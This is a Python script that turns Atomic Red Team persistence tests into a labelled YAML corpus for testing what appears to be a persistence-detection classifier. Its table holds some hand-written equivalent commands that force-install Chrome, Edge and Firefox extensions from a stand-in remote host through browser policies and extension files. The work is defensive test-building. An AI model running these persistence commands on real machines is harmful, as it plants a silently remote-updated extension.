"""Regenerate tests/corpus/art_atomics.yaml from an Atomic Red Team checkout (redcanaryco/atomic-red-team).

    python tests/corpus/art_import.py /path/to/atomic-red-team > tests/corpus/art_atomics.yaml

Every test the upstream Linux and macOS indexes (atomics/Indexes/Indexes-CSV/{linux,macos}-index.csv) list
under the persistence tactic becomes a case, plus the durable-write techniques the indexes file under
privilege escalation or stealth (set-id bits, sudo caching, root certificates, the dynamic linker). A case's
input is the test's own executor command with its input arguments' defaults filled in, verbatim. What each
test is expected to produce is a judgement made here, by reading what the command does (JUDGED below), never
by running the classifier: durable writes name the kinds they plant; tests that leave nothing behind say why.
"""

from __future__ import annotations

import csv
import io
import subprocess
import sys
from pathlib import Path
from typing import Any

import yaml

# Techniques outside the persistence index whose atomics still leave something durable behind.
EXTRA_TECHNIQUES = ("T1548.001", "T1548.003", "T1553.004", "T1574.006")
ATOMICS_HOME = "/opt/AtomicRedTeam/atomics"

# "T1053.003#1" -> the kinds a run must produce (for every platform), or a dict:
#   {"expect": [...], "why": "..."}  a non-durable test (expect []) says why it leaves nothing behind
#   {"artifact": {platform: (path, kind)}}  durable, but done by a compiled helper or a script file whose
#                                   effect the command line cannot show: the written file is the evidence
#   {"manual": ..., "equivalents": [...]}  a manual test: the agent-side commands that do the same thing
JUDGED: dict[str, Any] = {
    "T1037.002#1": ["login_hook"],
    "T1037.004#1": ["rc_script"],
    "T1037.004#2": ["rc_script"],
    "T1037.004#3": ["rc_script"],
    "T1037.005#1": ["startup_item"],
    "T1037.005#2": ["startup_item"],
    "T1037.005#3": ["startup_item"],
    "T1053.002#2": ["at_job"],
    "T1053.003#1": ["cron"],
    "T1053.003#2": ["cron"],
    "T1053.003#3": ["cron"],
    "T1053.003#4": ["cron"],
    "T1053.006#1": ["systemd_timer", "systemd_unit"],
    "T1053.006#2": ["systemd_timer"],
    "T1053.006#3": ["systemd_timer"],
    "T1078.001#3": ["account"],
    "T1078.003#2": ["account", "account_group", "account_password"],
    "T1078.003#3": ["account"],
    "T1078.003#4": ["account_password"],
    "T1078.003#5": ["account_group"],
    "T1078.003#8": ["account", "account_password"],
    "T1078.003#9": ["account", "account_password"],
    "T1078.003#10": ["account", "account_password"],
    "T1078.003#11": ["account_password"],
    "T1078.003#12": ["account_password"],
    "T1098.004#1": ["ssh_authorized_keys"],
    "T1136.001#1": ["account"],
    "T1136.001#2": ["account"],
    "T1136.001#3": ["account"],
    "T1136.001#6": ["account", "account_password"],
    "T1136.001#7": ["account", "account_password"],
    "T1136.002#4": ["domain_account"],
    "T1136.002#5": ["domain_account"],
    "T1176#1": {
        "manual": "durable: Chrome keeps an unpacked extension loaded in developer mode in the profile's "
        "(Secure) Preferences and loads it at every start",
        "equivalents": {
            "linux": [
                {
                    "tool": "Write",
                    "path": "/usr/share/google-chrome/extensions/aapocclcgogkmnckokdopfmhonfmgoek.json",
                    "content": '{"external_crx": "/home/dev/.cache/ext/helper.crx", "external_version": "1.0"}\n',
                },
                'sudo mkdir -p /etc/opt/chrome/policies/managed && echo \'{"ExtensionInstallForcelist": '
                '["aapocclcgogkmnckokdopfmhonfmgoek;https://203.0.113.8/updates.xml"]}\' | '
                "sudo tee /etc/opt/chrome/policies/managed/extensions.json",
                "cp -r ./Browser_Extension "
                "~/.config/google-chrome/Default/Extensions/aapocclcgogkmnckokdopfmhonfmgoek/1.0_0",
            ],
            "macos": [
                "mkdir -p ~/Library/Application\\ Support/Google/Chrome/External\\ Extensions && echo "
                '\'{"external_update_url": "https://203.0.113.8/updates.xml"}\' > ~/Library/Application\\ '
                "Support/Google/Chrome/External\\ Extensions/aapocclcgogkmnckokdopfmhonfmgoek.json",
                "defaults write com.google.Chrome ExtensionInstallForcelist -array "
                "'aapocclcgogkmnckokdopfmhonfmgoek;https://203.0.113.8/updates.xml'",
            ],
        },
        "expect": ["browser_extension"],
    },
    "T1176#2": {
        "manual": "not durable: 'Load Temporary Add-on' keeps the add-on until Firefox restarts; the durable "
        "ways (an .xpi in the profile, a policy) are the equivalents",
        "nondurable": {"linux": ["web-ext run --source-dir ./src"], "macos": ["web-ext run --source-dir ./src"]},
        "equivalents": {
            "linux": [
                "cp helper.xpi ~/.mozilla/firefox/abcd1234.default-release/extensions/helper@example.org.xpi",
                {
                    "tool": "Write",
                    "path": "/etc/firefox/policies/policies.json",
                    "content": '{"policies": {"Extensions": {"Install": ["https://203.0.113.8/helper.xpi"]}}}\n',
                },
            ],
            "macos": [
                "cp helper.xpi ~/Library/Application\\ Support/Firefox/Profiles/abcd1234.default-release/"
                "extensions/helper@example.org.xpi",
            ],
        },
        "expect": ["browser_extension"],
    },
    "T1176#3": {
        "manual": "durable: a store install stays in the profile",
        "equivalents": {
            "macos": [
                'echo \'{"external_update_url": "https://edge.microsoft.com/extensionwebstorebase/v1/crx"}\' > '
                "~/Library/Application\\ Support/Microsoft\\ Edge/External\\ Extensions/"
                "fjnehcbecaggobjholekjijaaekbnlgj.json",
                "defaults write com.microsoft.Edge ExtensionInstallForcelist -array fjnehcbecaggobjholekjijaaekbnlgj",
            ],
        },
        "expect": ["browser_extension"],
    },
    "T1543.001#1": ["launch_agent"],
    "T1543.001#2": ["emond"],
    "T1543.001#3": ["launch_agent"],
    "T1543.002#1": ["systemd_unit"],
    "T1543.002#2": ["rc_script"],
    "T1543.002#3": ["rc_script", "systemd_unit"],
    "T1543.004#1": ["launch_daemon"],
    "T1546.004#1": ["shell_rc"],
    "T1546.004#2": ["shell_rc"],
    "T1546.004#3": ["shell_rc"],
    "T1546.004#4": ["shell_rc"],
    "T1546.004#5": ["shell_rc"],
    "T1546.004#6": ["shell_rc"],
    "T1546.004#7": ["account", "shell_rc"],
    "T1546.005#1": {
        "expect": [],
        "why": "the trap is set in a child bash that exits at once: it fires once "
        "and dies with that shell; nothing is written to a start-up file",
    },
    "T1546.005#2": {"expect": [], "why": "as #1 (FreeBSD): the trap lives and dies with one bash -c"},
    "T1546.005#3": {"expect": [], "why": "the trap is set and triggered (kill -SIGINT $$) inside one bash -c"},
    "T1546.005#4": {"expect": [], "why": "as #3 (FreeBSD)"},
    "T1546.005#5": {
        "expect": [],
        "why": "a DEBUG trap in the running shell only: it logs that shell's commands "
        "to /tmp and is gone when the shell exits; no start-up file is written",
    },
    "T1546.014#1": ["emond"],
    "T1546.018#3": ["python_startup"],
    "T1546.018#4": ["python_startup"],
    "T1546.018#5": ["python_startup"],
    "T1547.006#1": ["kernel_module"],
    "T1547.006#2": ["kernel_module"],
    "T1547.006#3": {
        "expect": [],
        "why": "a compiled helper calls KextManagerLoadKextWithURL on a kext already "
        "installed in /Library/Extensions: nothing is written, and the load ends at reboot",
    },
    "T1547.007#1": ["reopened_apps"],
    "T1547.007#2": ["login_hook"],
    "T1547.007#3": {
        "artifact": {
            "macos": (
                "/Users/dev/Library/Preferences/ByHost/com.apple.loginwindow.0A1B2C3D-0000-0000-0000-000000000000.plist",
                "reopened_apps",
            )
        },
        "why": "a compiled helper rewrites the ByHost loginwindow plist that find chose at run time",
    },
    "T1547.015#2": {
        "artifact": {
            "macos": (
                "/Users/dev/Library/Application Support/com.apple.backgroundtaskmanagementagent/backgrounditems.btm",
                "login_item",
            )
        },
        "why": "the AppleScript lives in a file (add_login_item.osa); System Events records the login item",
    },
    "T1548.001#1": ["setuid_binary"],
    "T1548.001#2": ["setuid_binary"],
    "T1548.001#3": ["setuid_binary"],
    "T1548.001#4": ["setuid_binary"],
    "T1548.001#5": ["setuid_binary"],
    "T1548.001#6": ["setuid_binary"],
    "T1548.001#7": ["setuid_binary"],
    "T1548.001#8": ["setuid_binary"],
    "T1548.001#9": {"expect": [], "why": "find -perm -4000 only lists set-uid files"},
    "T1548.001#10": {"expect": [], "why": "find -perm -2000 only lists set-gid files"},
    "T1548.003#1": ["sudoers"],
    "T1548.003#2": ["sudoers"],
    "T1548.003#3": ["sudoers"],
    "T1548.003#4": ["sudoers"],
    "T1548.003#5": ["sudoers"],
    "T1548.003#6": ["sudoers"],
    "T1553.004#1": ["root_certificate"],
    "T1553.004#2": ["root_certificate"],
    "T1553.004#3": ["root_certificate"],
    "T1553.004#4": ["root_certificate"],
    "T1556.003#1": ["pam"],
    "T1556.003#2": ["pam"],
    "T1556.003#3": ["pam"],
    "T1574.006#1": ["ld_preload"],
    "T1574.006#2": {"expect": [], "why": "LD_PRELOAD on one command line: it affects that one ls and is gone"},
    "T1574.006#3": {"expect": [], "why": "DYLD_INSERT_LIBRARIES on one command line: one Firefox run only"},
}


def _git_show(repo: Path, path: str) -> str:
    return subprocess.run(
        ["git", "-C", str(repo), "show", f"HEAD:{path}"], check=True, capture_output=True, text=True
    ).stdout


def _index(repo: Path) -> dict[tuple[str, int], dict[str, str]]:
    """(technique, test number) -> {platform: "persistence" | "extra"} from the upstream index CSVs."""
    rows: dict[tuple[str, int], dict[str, str]] = {}
    for platform in ("linux", "macos"):
        text = _git_show(repo, f"atomics/Indexes/Indexes-CSV/{platform}-index.csv")
        for row in csv.DictReader(io.StringIO(text)):
            tech, num = row["Technique #"], int(row["Test #"])
            if row["Tactic"] == "persistence":
                rows.setdefault((tech, num), {})[platform] = "persistence"
            elif tech.startswith(EXTRA_TECHNIQUES):
                rows.setdefault((tech, num), {}).setdefault(platform, "extra")
    return rows


def _command(test: dict[str, Any]) -> str:
    executor = test["executor"]
    text = str(executor.get("command") or executor.get("steps") or "")
    for name, spec in (test.get("input_arguments") or {}).items():
        text = text.replace("#{" + name + "}", str(spec.get("default")))
    text = text.replace("$PathToAtomicsFolder", ATOMICS_HOME).replace("PathToAtomicsFolder", ATOMICS_HOME)
    if executor["name"] == "manual":  # keep the indented command lines of the steps, in order
        lines = [ln.strip() for ln in text.splitlines() if ln.startswith(("    ", "\t")) and ln.strip()]
        text = "\n".join(lines)
    return "\n".join(ln.rstrip() for ln in text.strip().splitlines())


def _case(tech: str, num: int, platform: str, index: str, test: dict[str, Any], **fields: Any) -> dict[str, Any]:
    home = "/Users/dev" if platform == "macos" else "/home/dev"
    case: dict[str, Any] = {
        "id": f"art-{tech}-{num}-{platform}",
        "source": f"art:{tech}#{num}",
        "guid": test["auto_generated_guid"],
        "platform": platform,
        "index": index,
        "name": test["name"],
        "executor": test["executor"]["name"],
        "home": home,
        "cwd": home,
    }
    case.update(fields)
    return case


def build(repo: Path) -> list[dict[str, Any]]:
    cases: list[dict[str, Any]] = []
    for (tech, num), platforms in sorted(_index(repo).items()):
        test = yaml.safe_load(_git_show(repo, f"atomics/{tech}/{tech}.yaml"))["atomic_tests"][num - 1]
        judged = JUDGED[f"{tech}#{num}"]
        for platform, index in sorted(platforms.items()):
            if isinstance(judged, list):
                cases.append(_case(tech, num, platform, index, test, durable=True, input=_command(test), expect=judged))
            elif "artifact" in judged:
                path, kind = judged["artifact"][platform]
                cases.append(
                    _case(
                        tech,
                        num,
                        platform,
                        index,
                        test,
                        durable=True,
                        input=_command(test),
                        artifact=path,
                        expect=[kind],
                        why=judged["why"],
                    )
                )
            elif "manual" in judged:
                for i, given in enumerate(judged.get("nondurable", {}).get(platform, []), 1):
                    cases.append(
                        _case(
                            tech,
                            num,
                            platform,
                            index,
                            test,
                            durable=False,
                            equivalent=True,
                            input=given,
                            expect=[],
                            why=judged["manual"],
                            id_suffix=f"temp{i}",
                        )
                    )
                for i, given in enumerate(judged["equivalents"].get(platform, []), 1):
                    cases.append(
                        _case(
                            tech,
                            num,
                            platform,
                            index,
                            test,
                            durable=True,
                            equivalent=True,
                            input=given,
                            expect=judged["expect"],
                            why=judged["manual"],
                            id_suffix=f"eq{i}",
                        )
                    )
            else:
                cases.append(
                    _case(
                        tech,
                        num,
                        platform,
                        index,
                        test,
                        durable=False,
                        input=_command(test),
                        expect=judged["expect"],
                        why=judged["why"],
                    )
                )
    for case in cases:
        suffix = case.pop("id_suffix", None)
        if suffix:
            case["id"] += f"-{suffix}"
    return cases


HEADER = """\
# Atomic Red Team (https://github.com/redcanaryco/atomic-red-team, commit {commit}): every Linux and macOS
# test its indexes list under the persistence tactic, plus the durable-write atomics of T1548.001 (set-id
# bits, capabilities), T1548.003 (sudo caching), T1553.004 (root certificates) and T1574.006 (the loader).
# Generated by tests/corpus/art_import.py: `input` is the test's own executor command, input arguments at
# their defaults, $PathToAtomicsFolder = {home}. `expect` is judged from what the command does, not from the
# classifier's output. `durable: false` tests leave nothing behind (`why` says why) and must stay silent.
# Manual tests have no command: their `equivalent` cases are the commands an agent would run to do the same.
# `artifact`: the write is done by a compiled helper or a script file the command line cannot show; the
# written file is the evidence (classified as an artifact, and watched by the agent's watch list).
# tests/test_art_atomics.py scores it; not used to tune (rules are written from the technique).
"""


class _Dumper(yaml.SafeDumper):
    """Multi-line commands as literal blocks, so the file reads like the atomics."""


def _str(dumper: yaml.SafeDumper, value: str) -> yaml.ScalarNode:
    style = "|" if "\n" in value else None
    return dumper.represent_scalar("tag:yaml.org,2002:str", value, style=style)


_Dumper.add_representer(str, _str)


def main() -> None:
    repo = Path(sys.argv[1])
    commit = subprocess.run(
        ["git", "-C", str(repo), "rev-parse", "HEAD"], check=True, capture_output=True, text=True
    ).stdout.strip()
    cases = build(repo)
    sys.stdout.write(HEADER.format(commit=commit, home=ATOMICS_HOME))
    sys.stdout.write(
        yaml.dump(
            {"upstream": {"repository": "redcanaryco/atomic-red-team", "commit": commit}, "cases": cases},
            Dumper=_Dumper,
            sort_keys=False,
            width=118,
            allow_unicode=True,
        )
    )


if __name__ == "__main__":
    main()
